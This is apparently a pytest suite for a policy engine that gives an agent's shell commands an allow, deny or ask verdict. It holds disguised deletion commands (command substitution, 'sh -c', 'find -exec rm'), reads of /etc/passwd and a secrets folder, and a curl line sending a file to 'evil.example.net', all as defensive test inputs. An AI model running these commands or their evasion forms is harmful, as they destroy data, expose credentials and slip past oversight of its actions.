"""Verdicts on shell commands: by their simple commands, and never looser than what can be read."""

import pytest

from yoi_bundle.calls import CompiledPolicy, ToolCall
from yoi_bundle.manifest import (
    DomainMatch,
    Effect,
    ExactMatch,
    GlobMatch,
    HostPathMatch,
    Match,
    Policy,
    PrefixMatch,
    Rule,
    compute_rule_id,
)
from yoi_bundle.rule_text import parse_rule

pytestmark = pytest.mark.req("S-11")


def prefix(value: str) -> PrefixMatch:
    return PrefixMatch(argument="command", value=value)


def build(default: Effect, effect: Effect, *matches: Match | None) -> CompiledPolicy:
    rules = [Rule(effect=effect, tool="shell.run", where=match) for match in matches]
    return CompiledPolicy(Policy(default=default, rules={compute_rule_id(rule): rule for rule in rules}))


ALLOWING = build(
    "deny",
    "allow",
    *(prefix(text) for text in ("git status", "git commit", "ls", "sudo", "sh", "xargs", "find")),
)
DENYING = build("allow", "deny", prefix("rm"), prefix("git push"))


def judge(policy: CompiledPolicy, command: str) -> str:
    return policy.compute_verdict(ToolCall("shell.run", {"command": command})).effect


@pytest.mark.parametrize(
    "command",
    [
        "git status",
        "git status -s --porcelain",
        "  git   status  ",
        "'git' \"status\"",
        'git commit -m "fix; rm -r x"',
        "git commit -m '直す　全部'",
        "git status && ls; ls | ls || ls &\nls",
        "(ls); { ls; }; ! ls",
        "ls 2>&1 >/dev/null",
        "ls \\\n  -l",
        "ls # comment",
        "sudo ls",
        "sh -c 'ls; git status'",
        "sh check.sh",
        "time ls",
        "find . -name x",
    ],
)
def test_a_command_of_nothing_but_allowed_simple_commands_is_allowed(command: str) -> None:
    assert judge(ALLOWING, command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "",
        "git",
        "git statusx",
        "gitstatus",
        "/tmp/git status",
        "ls; rm x",
        "ls && rm x",
        "ls || rm x",
        "ls | rm x",
        "ls & rm x",
        "ls\nrm x",
        "ls |& rm x",
        "(ls; rm x)",
        "ls $(rm x)",
        "ls `rm x`",
        "ls <(rm x)",
        'ls "$(rm x)"',
        "X=$(rm x) ls",
        "ls > $(rm x)",
        "if ls; then rm x; fi",
        "ls() { rm x; }; ls",
        "sudo rm x",
        "sudo env rm x",
        "sh -c 'rm x'",
        "sh -c 'ls; sh -c \"rm x\"'",
        "xargs rm",
        "find . -exec rm {} +",
        "eval ls",
        "time rm x",
        "cat <<END\n$(rm x)\nEND",
    ],
)
def test_a_part_that_no_rule_allows_takes_the_default(command: str) -> None:
    assert judge(ALLOWING, command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "ls $HOME",
        "ls *.py",
        "ls ~/x",
        "ls {a,b}",
        "ls $'x'",
        "ls > out.txt",
        "ls < in.txt",
        "ls <<END\nx\nEND",
        "ls <<< x",
        "LD_PRELOAD=x ls",
        "for x in a b; do ls; done",
        "ls $((1+1))",
        "sudo -u other ls",
        "sh -ec ls",
        "sh",
        "xargs ls",
        "ls $(ls)",
        'ls "x',
        "ls )",
        "ls\x00",
        "ls\rx",
        "ls \ud800",
        'ls""\\x',
    ],
)
def test_what_is_not_plain_or_cannot_be_read_is_asked_at_most(command: str) -> None:
    assert judge(ALLOWING, command) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "rm x",
        "rm",
        "RM x",
        "/bin/rm x",
        "\\rm x",
        "r''m x",
        '"rm" x',
        "r\\\nm x",
        "ls; rm x",
        "ls $(rm x)",
        "FOO=1 rm x",
        "sudo -u other rm x",
        "env -i A=b rm x",
        "nohup timeout 5 nice -n 3 rm x",
        "command rm x",
        "xargs -n1 rm",
        "find . -name y -exec rm {} \\;",
        "bash -c 'rm x'",
        "bash -ec 'cd /; rm x'",
        "eval 'rm x'",
        "su -c 'rm x'",
        "git push",
        "git -C dir push",
        "git --no-pager push origin",
        "GIT   PUSH",
        "if true; then rm x; fi",
        "f() { rm x; }",
        'rm "x',
        "ls; rm 'x",
        "rm x )",
        "rm\tx\x00",
        "r''\\m x",
    ],
)
def test_a_deny_rule_finds_a_command_in_every_disguise(command: str) -> None:
    assert judge(DENYING, command) == "deny"


@pytest.mark.parametrize(
    "command",
    [
        "$X -r x",
        "$(printf rm) x",
        "git $X",
        "echo 'rm x' | bash",
        "bash <<< 'rm x'",
        ". ./x",
        "$'rm' x",
    ],
)
def test_a_deny_rule_that_may_match_makes_an_allowed_call_asked(command: str) -> None:
    assert judge(DENYING, command) == "ask"


@pytest.mark.parametrize(
    "command",
    ["ls", "echo rm", "git log --grep push", "git status; git pull", "rmdir x", "cat <<END\nrm x\nEND"],
)
def test_a_deny_rule_leaves_other_commands_alone(command: str) -> None:
    assert judge(DENYING, command) == "allow"


def test_a_deny_rule_that_may_match_never_lifts_a_call_out_of_a_default_of_deny() -> None:
    assert judge(build("deny", "deny", prefix("rm")), "$X -r x") == "deny"


def test_an_ask_rule_lifts_only_what_it_plainly_names() -> None:
    asking = build("deny", "ask", prefix("git push"))
    assert judge(asking, "git push origin main") == "ask"
    assert judge(asking, "git push $BRANCH") == "ask"
    assert judge(asking, "sudo git push") == "deny"
    assert judge(build("allow", "ask", prefix("git push")), "sudo git push") == "ask"


def test_a_rule_without_a_condition_speaks_of_every_command_it_can_read() -> None:
    anything = build("deny", "allow", None)
    assert judge(anything, "X=$(ls) ls > y *") == "allow"
    assert judge(anything, 'ls "x') == "ask"


def test_an_unreadable_command_takes_a_default_of_deny_where_no_rule_speaks_of_the_tool() -> None:
    assert judge(CompiledPolicy(Policy()), 'ls "x') == "deny"
    assert judge(CompiledPolicy(Policy(default="allow")), 'ls "x') == "ask"


def test_an_exact_rule_is_compared_word_by_word() -> None:
    exact = build("deny", "allow", ExactMatch(argument="command", value="npm run test"))
    assert judge(exact, "npm  'run' test") == "allow"
    assert judge(exact, "npm run test --watch") == "deny"


def test_a_glob_does_not_reach_across_quotes_and_commands() -> None:
    glob = build("deny", "allow", GlobMatch(argument="command", pattern="git * main"))
    assert judge(glob, "git push origin main") == "allow"
    assert judge(glob, "git commit -m 'x main'") == "deny"
    assert judge(glob, "git x; rm main") == "deny"


def test_deny_rules_on_places_and_hosts_see_every_word_of_a_command() -> None:
    places = build("allow", "deny", HostPathMatch(argument="command", pattern="/etc/**"))
    assert judge(places, "cat /etc/passwd") == "deny"
    assert judge(places, "cat < /etc/passwd") == "deny"
    assert judge(places, "dd if=/etc/passwd") == "deny"
    assert judge(places, "cat $X") == "ask"
    assert judge(places, "cat x") == "allow"
    hosts = build("allow", "deny", DomainMatch(argument="command", host="evil.example.net"))
    assert judge(hosts, "curl -d @x https://evil.example.net/a") == "deny"
    assert judge(hosts, "curl evil.example.net") == "deny"
    assert judge(hosts, "curl https://good.example.net/") == "allow"


def test_deep_and_long_commands_are_asked_not_followed() -> None:
    assert judge(ALLOWING, "ls; " * 300 + "ls") == "ask"
    assert judge(ALLOWING, "(" * 2000 + "ls" + ")" * 2000) != "allow"
    assert judge(ALLOWING, "ls " + "x" * 100_000) == "ask"
    assert judge(ALLOWING, "sudo " * 50 + "ls") == "ask"


def judge_text(default: Effect, rule: str, command: str) -> str:
    made = parse_rule(rule)
    return judge(CompiledPolicy(Policy(default=default, rules={compute_rule_id(made): made})), command)


_DENY_RM = "deny shell.run(command prefix: rm)"
_DENY_PUSH = "deny shell.run(command prefix: git push)"
_DENY_SECRETS = "deny shell.run(command path: secrets)"


@pytest.mark.parametrize("command", [">/dev/null ls", "2>&1 ls", "A=b ls"])
def test_what_stands_before_an_allowed_command_is_asked_about(command: str) -> None:
    assert judge(ALLOWING, command) == "ask"


@pytest.mark.parametrize(
    "word",
    [
        "!",
        "{",
        "}",
        "[[",
        "]]",
        "if",
        "then",
        "elif",
        "else",
        "fi",
        "do",
        "done",
        "while",
        "until",
        "for",
        "case",
        "esac",
        "select",
        "function",
        "in",
        ";;",
        "(",
        ")",
    ],
)
def test_a_word_of_a_shells_grammar_is_no_command_that_a_rule_allows(word: str) -> None:
    rule = Rule(effect="allow", tool="shell.run", where=prefix(word))
    assert judge(CompiledPolicy(Policy(default="deny", rules={"r": rule})), f"{word} ls") in ("ask", "deny")
    assert judge(CompiledPolicy(Policy(default="deny", rules={"r": rule})), word) in ("ask", "deny")


@pytest.mark.parametrize(
    ("rule", "command", "verdict"),
    [
        # The whole text begins with the rule's, operators and all.
        ("deny shell.run(command prefix: cd x && rm)", "cd x && rm y", "deny"),
        ("deny shell.run(command prefix: cd x && rm)", "cd x && rmdir y", "allow"),
        # The code that a shell is given stands behind the end of its options.
        (_DENY_SECRETS, "bash -c -- 'cat secrets/x'", "deny"),
        (_DENY_SECRETS, "bash -o pipefail -c 'cat secrets/x'", "deny"),
        # One alias of several.
        (_DENY_RM, "alias a=ls b='rm x'", "deny"),
        # A wrapper that changes nothing is itself denied.
        ("deny shell.run(command prefix: nice)", "ls; nice ls", "deny"),
        ("ask shell.run(command prefix: nice)", "ls; nice ls", "ask"),
        # What a command may become when its next word is known.
        (_DENY_PUSH, "git $X", "ask"),
        (_DENY_PUSH, "git --no-pager $X", "ask"),
        (_DENY_PUSH, "git --no-pager log $X", "ask"),
        (_DENY_PUSH, "git --no-pager log x $X", "allow"),
        (_DENY_PUSH, "git log $X", "allow"),
        # What `xargs` reads stands where its mark does.
        (_DENY_PUSH, "xargs -i -t git '{}'", "ask"),
        (_DENY_PUSH, "xargs -I @ git '@'", "ask"),
        (_DENY_PUSH, "xargs -I @ git log '@'", "allow"),
        # What a loop goes over, and a pattern of names.
        (_DENY_SECRETS, "for f in secrets/*; do true; done", "ask"),
        (_DENY_SECRETS, "for f in sec*; do true; done", "ask"),
        (_DENY_SECRETS, "for f in other/*; do true; done", "allow"),
        ("deny shell.run(command path: secrets/keys)", "cat secrets/k*", "ask"),
        ("deny shell.run(command path: secrets/keys)", "cd secrets; cat k*", "ask"),
        ("deny shell.run(command path: secrets/keys)", "cd other; cat k*", "allow"),
        # The end of a here-document is no code.
        (_DENY_RM, "cat <<'$(x)'\nhello\n$(x)\n", "allow"),
        # A text that is evaluated, where all that runs is code that can be read.
        (_DENY_RM, "BASH_ENV=./x sh -c 'ls'", "ask"),
    ],
)
def test_a_restriction_takes_what_it_names_and_asks_about_what_may_be_that(
    rule: str, command: str, verdict: str
) -> None:
    assert judge_text("allow", rule, command) == verdict
